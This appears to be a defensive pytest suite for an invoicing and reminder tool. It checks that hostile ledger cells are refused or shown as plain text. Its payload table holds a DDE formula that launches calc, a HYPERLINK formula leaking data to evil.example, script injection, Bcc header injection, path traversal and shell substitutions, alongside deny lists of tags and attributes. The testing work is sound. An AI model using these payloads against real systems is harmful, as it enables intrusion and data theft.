"""Whatever stands in a cell is refused with its place or is text: never a traceback, a header, markup, a path, or code."""

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cached_property
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from commandline import PLAIN, Workspace, html_of, parsed, text_of

VALUES = {
    "formula": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://evil.example/?x="&A1,"pay here")',
    "html": '"><script>alert(1)</script><img src=http://evil.example/x onerror=alert(1)>',
    "style": "</style></title><style>*{background:url(http://evil.example/x)}</style>",
    "jinja": "{{ 77777 * 77777 }}{% raise %}{# gone #}{{ config.__class__ }}",
    "markdown": "[pay](http://evil.example) ![x](http://evil.example/x) **bold** | pipe `code` # head",
    "tab": "one\ttwo",
    "bare link": "http://evil.example/pay <http://evil.example> www.evil.example javascript:alert(1)",
    "header": "Acme\r\nBcc: victim@evil.example\r\n\r\nbody",
    "encoded header": "=?utf-8?q?Acme=0D=0ABcc:_victim@evil.example=0D=0A?=",
    "second address": "victim@evil.example, a@acme.example",
    "quotes": "\"Acme\" <victim@evil.example> (';--\\",
    "up the tree": "../../../../../../evil-cell",
    "absolute path": "/etc/passwd",
    "their path": "..\\..\\evil.exe:stream",
    "device": "CON",
    "dots": "..",
    "long": "W" * 100_000,
    "long words": "wide load " * 2_000,
    "nan": "NaN",
    "infinity": "-Infinity",
    "scientific": "1E+15",
    "huge": "9" * 40,
    "small fraction": "0.000000000000000000001",
    "other digits": "١٢٣",
    "year 1": "0001-01-01",
    "year 9999": "9999-12-31",
    "year 10000": "10000-01-01",
    "zero width": "zero\u200bwidth\u200d\ufeffjoin\u00ad",
    "right to left": "\u202egnp.exe\u202c\u2066x\u2069 \u200f",
    "line separators": "one\u2028two\u2029three\x0bfour\x85five",
    "controls": "\x1b[2J\x1b]0;evil\x07\x08\x7f\x01",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "marks": "Z" + "\u0301" * 300,
    "blank": " \t\u00a0\u3000 ",
    "comment": "#",
    "truth": "TRUE",
    "null": "NULL",
    "template words": "{amount}{0}%s%(x)s${HOME}$(id)`id`",
    "emoji": "👩‍👩‍👧‍👦",
    "tag characters": "🏴\U000e0067\U000e0062\U000e007f",
    "joined scripts": "می\u200cخواهم ශ්\u200dරී",
}  # fmt: skip
FORBIDDEN = "evil.example"  # no address, no link and no header leads there
PRODUCT = str(77777 * 77777)  # what a template would make of the cell

DAY = "2026-02-12"
COLUMNS = {
    "customers": {
        "account_id": "A{n}", "name": "Acme {n}", "kind": "business", "contact": "Ann", "email": "a{n}@acme.example",
        "cc": "", "phone": "+353 20 911 0001", "address": "1 Mill Road", "postcode": "H91 AB12", "city": "Galway",
        "country": "IE", "language": "en", "currency": "EUR", "terms_days": "30", "track": "standard",
        "timezone": "Europe/Dublin",
    },
    "invoices": {
        "invoice_id": "I{n}", "account_id": "A{n}", "issued": "2026-01-01", "due": "2026-01-31", "amount": "100.00",
        "currency": "EUR", "description": "Bread", "reference": "PO 1",
    },
    "payments": {
        "received": "2026-01-15", "account_id": "A{n}", "amount": "10.00", "currency": "EUR", "invoice_id": "I{n}",
        "reference": "SEPA",
    },
    "activity": {
        "on": "2026-01-20", "account_id": "A{n}", "kind": "call", "invoice_id": "I{n}", "amount": "", "due": "",
        "every": "", "count": "", "by": "NC", "note": "Spoke to Ann",
    },
}  # fmt: skip
CELLS = [(ledger, column) for ledger, columns in COLUMNS.items() for column in columns]
CONFIG = PLAIN.format(
    business='address = ["7 Brook Street"]\npostcode = "H91 Y2K3"\ncity = "Galway"\ncountry = "IE"\n',
    more=(
        '[portal]\nbase_url = "https://pay.brookstreet.example"\n'
        'links = [{ name = "Pay by card", url = "https://card.example/?a={amount}&r={reference}&n={account}" }]\n'
    ),
)
CALLS = CONFIG.replace('["email"]', '["call"]')


@dataclass(frozen=True)
class Entry:
    """One account of the books, with one hostile cell."""

    n: int
    ledger: str
    column: str
    kind: str

    @property
    def value(self) -> str:
        return VALUES[self.kind]

    def row(self, ledger: str) -> list[str]:
        """The account's row of a ledger. Names are hostile wherever they stand, so that the rows belong together."""
        cells = {column: text.format(n=self.n) for column, text in COLUMNS[ledger].items()}
        for column in cells:
            if column == self.column and (ledger == self.ledger or self._names(ledger)):
                cells[column] = self.value
        return list(cells.values())

    def _names(self, ledger: str) -> bool:
        owner = {"account_id": "customers", "invoice_id": "invoices"}.get(self.column)
        return self.ledger == owner and ledger != owner

    def __str__(self) -> str:
        return f"{self.ledger}.{self.column}: {self.kind}"


def write(workspace: Workspace, entries: list[Entry]) -> dict[tuple[str, int], Entry]:
    """The ledgers, and which entry's row begins on which line."""
    places = {}
    for ledger, columns in COLUMNS.items():
        lines = [_line(list(columns))]
        row = 2
        for entry in entries:
            lines.append(_line(entry.row(ledger)))
            places[f"accounts/{ledger}.csv", row] = entry
            row += len(re.findall(r"\r\n|\r|\n", lines[-1]))
        workspace.write(f"accounts/{ledger}.csv", "".join(lines).encode())
    return places


def _line(cells: list[str]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL).writerow(cells)
    return out.getvalue()


def accepted(
    workspace: Workspace, entries: list[Entry]
) -> tuple[list[Entry], dict[Entry, list[str]], dict[Entry, list[str]]]:
    """Writes the books, and again without the rows that stop the run, until none does.

    The entries that are left, those that were refused, and those left whose account an error holds, with what was said.
    """
    refused: dict[Entry, list[str]] = {}
    while True:
        places = write(workspace, entries)
        result = workspace.run("check", "--json", "--on", DAY)
        assert result.exit_code in {0, 1}
        stopped: dict[Entry, list[str]] = {}
        held: dict[Entry, list[str]] = {}
        for finding in json.loads(result.stdout)["findings"]:
            if finding["severity"] == "error":
                entry = places.get((finding["file"], finding["row"]))
                assert entry or finding["account_id"], f"no row of ours is at {finding}"
                if entry:
                    (held if finding["account_id"] else stopped).setdefault(entry, []).append(finding["message"])
        if not stopped:
            return entries, refused, held
        refused |= stopped
        entries = [entry for entry in entries if entry not in stopped]
        assert entries, "everything is refused"


@dataclass(frozen=True)
class Built:
    """Books with hostile cells after `check`, `build` and `send`: what was refused, and the files of the rest."""

    workspace: Workspace
    entries: list[Entry]  # not refused: in the books that were built
    refused: dict[Entry, list[str]]
    held: dict[Entry, list[str]]
    around: set[str]  # what lies beside the workspace
    printed: str = ""

    @cached_property
    def files(self) -> dict[str, bytes]:
        return self.workspace.files()

    def emails(self) -> Iterator[tuple[str, bytes]]:
        return ((n, c) for n, c in self.files.items() if n.endswith(".eml"))

    def pages(self) -> Iterator[tuple[str, str]]:
        """Every page that a browser or a mail program may show."""
        for name, content in self.files.items():
            if name.endswith(".html"):
                yield name, content.decode()
            elif name.endswith(".eml"):
                yield name, html_of(parsed(content))


@pytest.fixture(scope="module", params=["customers", "invoices", "payments", "activity"])
def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Built:
    """For one ledger, every hostile value in every column, an account each."""
    above = tmp_path_factory.mktemp("above")
    ledger = request.param
    workspace = Workspace(above / "deep/er/books")
    workspace.write("config.toml", CALLS if ledger == "activity" else CONFIG)
    workspace.write("portal.key", "0" * 63 + "1\n")
    wanted = [(column, kind) for owner, column in CELLS if owner == ledger for kind in VALUES]
    entries = [Entry(n, ledger, column, kind) for n, (column, kind) in enumerate(wanted, start=1)]
    entries, refused, held = accepted(workspace, entries)
    workspace.write(".gitignore", "/outbox/.manifest\n/outbox/.letters.json\n/site/public/\n/outbox/desk.html\n")
    workspace.committed()
    result = workspace.run("build", "--on", DAY)
    assert result.exit_code in {0, 1}
    around = {path.relative_to(above).as_posix() for path in above.rglob("*") if workspace.root not in path.parents}
    return Built(workspace, entries, refused, held, around, result.output)


def test_nothing_is_written_beside_the_workspace_or_under_a_name_that_a_cell_chose(built: Built) -> None:
    assert built.around == {"deep", "deep/er", "deep/er/books"}
    folders = [each for each in built.workspace.root.rglob("*") if each.is_dir() and ".git" not in each.parts]
    assert len(folders) > 5
    for folder in (built.workspace.root, *folders):  # wherever the cell was taken for a path from
        climbed = (folder / VALUES["up the tree"]).resolve()
        assert not list(climbed.parent.glob(f"{climbed.name}*")), climbed
    tops = {name.split("/")[0] for name in built.workspace.everything()}
    assert tops <= {"accounts", "config.toml", "portal.key", "outbox", "site", ".git", ".gitignore"}
    for name in built.files:
        assert re.fullmatch(
            r"outbox/(desk\.html|\.manifest|\.letters\.json|2026-02-12/[A-Za-z0-9-]{1,90}\.(eml|pdf|html)"
            r"|preview/[A-Za-z0-9-]{1,90}\.((email|text)\.)?html|accounts/(style\.css|[a-z0-9-]{17,90}\.html))"
            r"|site/public/(_headers|index\.html|404\.html|robots\.txt|static/style\.css|[a-z0-9]{26,}/index\.html)",
            name,
        ), name


def test_every_cell_is_refused_with_its_place_or_is_text_of_its_account(built: Built) -> None:
    assert built.files
    status = json.loads(built.workspace.run("status", "--json", "--on", DAY).stdout)
    actions: dict[str, set[str]] = {}
    for each in status["accounts"]:
        actions.setdefault(each["account_id"], set()).add(each["decision"]["action"])
    reached = [entry for entry in built.entries if entry not in built.held]
    assert reached
    for entry in built.held:
        if entry.column != "account_id":  # a line of nobody's holds nobody
            assert actions.get(f"A{entry.n}", {"hold"}) <= {"hold", "settled", "none"}, entry


def test_each_email_goes_to_its_own_account_and_says_no_more_in_its_header(built: Built) -> None:
    for name, content in built.emails():
        message = parsed(content)
        assert message.defects == [], name
        (to,) = message["To"].addresses
        assert re.fullmatch(r"a\d+@acme\.example", to.addr_spec), name
        assert [address.addr_spec for address in message["From"].addresses] == ["accounts@brookstreet.example"]
        assert not {"bcc", "cc", "sender", "resent-to"} & {key.lower() for key in message}, name
        head = content.split(b"\r\n\r\n")[0]
        assert b"\n" not in head.replace(b"\r\n", b""), name
        assert max(map(len, content.split(b"\r\n"))) <= 998, name
        assert all(len(message.get_all(key, [])) == 1 for key in set(message.keys())), name
        text_of(message)


# Where a page may lead or fetch from: its own style, pages beside it, the portal, the operator, the shop's card page.
LINKS = re.compile(
    r"data:,|#[A-Za-z-]*|\.?\.?/?(\.\./)*(static/)?style\.css|(\.\./){1,2}site/public/[a-z0-9]+/(index\.html)?"
    r"|(\.\./)?(2026-02-12/)?[A-Za-z0-9-]+\.(eml|pdf|html)|(preview/)?[A-Za-z0-9-]+\.((email|text)\.)?html"
    r"|accounts/[a-z0-9-]+\.html|https://pay\.brookstreet\.example/[a-z0-9]+/"
    r"|https://card\.example/\?a=[0-9.]+&r=[^&\"'<>\s]*&n=[^&\"'<>\s]*"
    r"|mailto:(accounts@brookstreet|a[0-9]+@acme)\.example(\?(subject|body)=[^\"'<>\s]*)?|tel:[+0-9]*"
)

FRAMES = re.compile(r"preview/[A-Za-z0-9-]+\.html|[A-Za-z0-9-]+\.(email|text)\.html|\.\./2026-02-12/[A-Za-z0-9-]+\.pdf")


class Seen(HTMLParser):
    """The elements of a page, as a browser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # The desk's previews are frames; where each leads is looked at below.
        if tag in {"script", "embed", "form", "base", "img", "input", "video", "audio", "math"}:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            said = value or ""
            if tag in {"iframe", "object"} and name in {"src", "data"} and not FRAMES.fullmatch(said):
                self.wrong.append(f"{tag} {said[:80]}")
            if name.startswith("on") or name in {"srcdoc", "formaction", "http-equiv-refresh"}:
                self.wrong.append(f"{tag} {name}")
            if name == "style" and re.search(r"url\(|expression|@import", said, re.IGNORECASE):
                self.wrong.append(f"{tag} style {said[:60]}")
            if name in {"href", "src", "action", "data", "xlink:href"} and not LINKS.fullmatch(said):
                self.wrong.append(f"{tag} {name} {said[:80]}")
        if tag == "meta" and any(n == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs):
            self.wrong.append("meta refresh")


def test_no_cell_is_markup_a_link_or_a_script_on_any_page(built: Built) -> None:
    wrong = {name: seen.wrong for name, html in built.pages() if (seen := Seen(html)).wrong}
    assert wrong == {}


def test_no_cell_is_a_template(built: Built) -> None:
    for name, content in built.files.items():
        assert PRODUCT.encode() not in content, name


def test_no_printed_letter_holds_anything_active(built: Built) -> None:
    from pypdf import PdfReader

    for name, content in built.files.items():
        if not name.endswith(".pdf"):
            continue
        reader = PdfReader(io.BytesIO(content))
        root = reader.trailer["/Root"]
        assert not {"/OpenAction", "/AA", "/AcroForm"} & set(root), name
        assert not {"/JavaScript", "/EmbeddedFiles"} & set(root.get("/Names", {})), name
        for page in reader.pages:
            assert "/AA" not in page
            for note in page.get("/Annots", []):
                action = note.get_object().get("/A", {})
                assert action.get("/S", "/URI") == "/URI", name
                assert FORBIDDEN not in urlsplit(str(action.get("/URI", ""))).netloc, name


def test_the_terminal_gets_no_control_characters(built: Built) -> None:
    said = [
        built.printed,
        *(built.workspace.run(*c, "--on", DAY).output for c in (["status", "--all"], ["explain", "A1"])),
    ]
    for text in said:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)


def test_the_terminal_shows_brackets_and_colons_as_they_stand_in_the_books(tmp_path: Path) -> None:
    name = "[/b][red]A:warning:1"
    books = Workspace.of(
        tmp_path / "books",
        customers=f"account_id,name,email\n{name},[/i]Acme,a@acme.example\n",
        invoices=f"invoice_id,account_id,due,amount\n[/u]1,{name},2026-01-31,10.00\n",
    )
    assert name[:13] in books.done("status", "--on", "2026-02-02")
    assert "[/u]1" in books.done("explain", name, "--on", "2026-02-02")
    assert name[:13] in books.done("send", "--dry-run", "--on", "2026-02-02")
    assert f'"{name}"' in books.run("explain", f"{name}x", "--on", "2026-02-02").stderr.replace(f"{name}x", name)


def test_hostile_names_of_accounts_and_invoices_come_back_from_the_record_as_they_went_in(tmp_path: Path) -> None:
    workspace = Workspace.of(tmp_path / "books", CONFIG)
    cells = [(ledger, column) for ledger, column in (("customers", "account_id"), ("invoices", "invoice_id"))]
    wanted = [(ledger, column, kind) for ledger, column in cells for kind in VALUES]
    entries, _, _ = accepted(workspace, [Entry(n, *each) for n, each in enumerate(wanted, start=1)])
    assert len(entries) > len(VALUES)
    workspace.committed()
    workspace.run("send", "--yes", "--on", DAY)
    notices = workspace.notices()
    assert len(notices) > len(VALUES)
    assert "Nothing is due." in workspace.run("send", "--yes", "--on", DAY).stdout
    workspace.run("send", "--yes", "--on", "2026-03-02")
    steps = {row["step"] for row in workspace.notices()[len(notices) :]}
    assert steps == {"second-notice"}


def test_all_at_once_in_one_account(tmp_path: Path) -> None:
    """Each value in every free column of one account: name, contact, address, description, references and notes."""
    free = {
        "customers": ("name", "contact", "phone", "address", "postcode", "city"),
        "invoices": ("description", "reference"),
        "payments": ("reference",),
        "activity": ("by", "note"),
    }

    @dataclass(frozen=True)
    class Full(Entry):
        def row(self, ledger: str) -> list[str]:
            plain = Entry(self.n, "none", "none", self.kind).row(ledger)
            columns = list(COLUMNS[ledger])
            return [self.value if c in free[ledger] else cell for c, cell in zip(columns, plain, strict=True)]

    workspace = Workspace.of(tmp_path / "books", CONFIG.replace('["email"]', '["email", "letter"]'))
    entries: list[Entry] = [Full(n, "all", "free", kind) for n, kind in enumerate(VALUES, start=1)]
    places = write(workspace, entries)
    found = json.loads(workspace.run("check", "--json", "--on", DAY).stdout)["findings"]
    wrong = {places[f["file"], f["row"]] for f in found if f["severity"] == "error" and f["row"]}
    entries = [entry for entry in entries if entry not in wrong]
    write(workspace, entries)
    workspace.committed()
    result = workspace.run("send", "--yes", "--on", DAY)
    assert result.exit_code in {0, 1}, result.stderr[-2000:]
    both = Built(workspace, entries, {}, {}, {"deep", "deep/er", "deep/er/books"})
    test_each_email_goes_to_its_own_account_and_says_no_more_in_its_header(both)
    test_no_cell_is_markup_a_link_or_a_script_on_any_page(both)
    test_no_cell_is_a_template(both)
    test_no_printed_letter_holds_anything_active(both)
    printed = {row["account_id"] for row in workspace.notices() if row["channel"] == "letter"}
    assert len(printed) > len(VALUES) / 2


# ------------------------------------------------------------------ whole files

FINE = {
    ledger: _line(list(columns)) + _line([text.format(n=1) for text in columns.values()])
    for ledger, columns in COLUMNS.items()
}


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe" + "account_id,name\nA1,\ud800lone\n".encode("utf-16-le", "surrogatepass"),
        b"\xfe\xff" + "account_id,name\nA1,\udc00\n".encode("utf-16-be", "surrogatepass"),
        "account_id,name\nA1,\ud800\n".encode("utf-8", "surrogatepass"),
        "account_id,name\nA1,Müller\n".encode("cp1252"),
        "account_id,name\nA1,Müller\n".encode("utf-7"),
        "account_id,name\nA1,x\n".encode("utf-32"),
        b"account_id,name\nA1,a\0b\n",
        b'account_id,name\nA1,"never closed\n',
        b"account_id,name\nA1," + b'"' * 9_999 + b"\n",
        b"account_id,name\n" + b"," * 100_000 + b"\n",
        b"account_id,name" + b",x" * 20_000 + b"\nA1,Acme\n",
        b"\xef\xbb\xbf\xef\xbb\xbfaccount_id,name\nA1,Acme\n",
        b"account_id,name\rA1,Acme\r",
        b"",
        b"\n\n\n",
        b"\0" * 5_000,
        bytes(range(256)) * 20,
        b"PK\x03\x04 not a zip",
        b"{\\rtf1 hello}",
        b"<html><table><tr><td>account_id</td></tr></table></html>",
    ],
    ids=lambda content: repr(content[:24]),
)
@pytest.mark.parametrize("ledger", ["customers", "invoices", "notices"])
@pytest.mark.parametrize("ending", ["csv"])
def test_a_file_of_any_bytes_is_read_or_refused_before_anything_is_written(
    ledger: str, content: bytes, ending: str, tmp_path: Path
) -> None:
    workspace = Workspace(tmp_path / "books")
    workspace.write("config.toml", CONFIG)
    for name, text in FINE.items():
        workspace.write(f"accounts/{name}.csv", text)
    (workspace.root / f"accounts/{ledger}.csv").unlink(missing_ok=True)
    workspace.write(f"accounts/{ledger}.{ending}", content)
    result = workspace.run("status", "--on", DAY)
    assert result.exit_code in {0, 1}
    result.stdout.encode()
    if ledger == "notices":
        assert result.exit_code == 1 or not content.strip()
